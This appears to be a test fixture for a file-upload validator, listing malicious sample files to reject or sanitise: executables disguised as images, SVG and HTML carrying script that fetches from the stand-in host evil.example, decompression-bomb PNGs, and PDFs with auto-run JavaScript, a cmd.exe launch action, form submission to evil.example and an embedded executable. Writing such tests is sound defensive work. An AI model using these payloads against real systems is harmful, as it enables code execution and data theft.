import { deflateSync } from 'node:zlib';
import { aPicture, pdfOf, pngOf } from '../files.ts';

const picture = aPicture();
const program = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(2000, 7)]);
const script = '<script>fetch("//evil.example")</script>';
const svg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`.repeat(20),
);
const page = Buffer.from(`<!doctype html><html>${script}</html>`.repeat(20));
const polyglot = Buffer.concat([picture, Buffer.from(script.repeat(20))]);
const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(40), Buffer.from('*/=1;alert(1);')]);
const jpeg = { kind: 'image', fileName: 'house.jpg', contentType: 'image/jpeg' };
const plan = { kind: 'floorplan', fileName: 'plan.pdf', contentType: 'application/pdf' };

/** What is never taken, whatever it says it is. */
export const bad: readonly (readonly [string, Buffer, object])[] = [
  ['a program called a photograph', program, jpeg],
  ['an SVG called a PNG', svg, {}],
  ['a page called a PNG', page, {}],
  ['a page called a PDF', page, plan],
  ['a GIF that is a script', gif, jpeg],
  ['nothing but the first bytes of a PNG', picture.subarray(0, 60), {}],
  [
    'a PNG of a hundred megapixels in a few bytes',
    pngOf(10_000, 10_000, deflateSync(Buffer.alloc(1000))),
    {},
  ],
  ['a PNG of four thousand million lines', pngOf(1, 0xffffffff, deflateSync(Buffer.alloc(10))), {}],
  ['a PNG without a width', pngOf(0, 10, deflateSync(Buffer.alloc(10))), {}],
  ['a PDF of a word', Buffer.from('%PDF-1.4\nnonsense'), plan],
  ['a PDF of two thousand pages', pdfOf({ pages: 2000 }), plan],
  ['a PDF whose page is a mile wide', pdfOf({ size: '20000000 20000000' }), plan],
  [
    'a PDF that is a program behind its first line',
    Buffer.concat([Buffer.from('%PDF-1.4\n'), program]),
    plan,
  ],
];

/** What may be taken, once what is dangerous in it is gone. */
export const dangerous: readonly (readonly [string, Buffer, object, RegExp])[] = [
  ['a picture with a page behind it', polyglot, {}, /<script>/],
  [
    'a PDF that runs a script when it is opened',
    pdfOf({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    plan,
    /JavaScript|OpenAction|app\.alert/,
  ],
  [
    'a PDF with a link to another site',
    pdfOf({
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (https://evil.example) >> >>]',
    }),
    plan,
    /evil\.example|\/URI/,
  ],
  [
    'a PDF that starts a program',
    pdfOf({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    plan,
    /Launch|cmd\.exe/,
  ],
  [
    'a PDF that sends a form',
    pdfOf({ catalogue: '/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>' }),
    plan,
    /SubmitForm|evil\.example/,
  ],
  [
    'a PDF with a file inside',
    pdfOf({
      catalogue: '/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) >>] >> >>',
    }),
    plan,
    /EmbeddedFiles|x\.exe/,
  ],
];
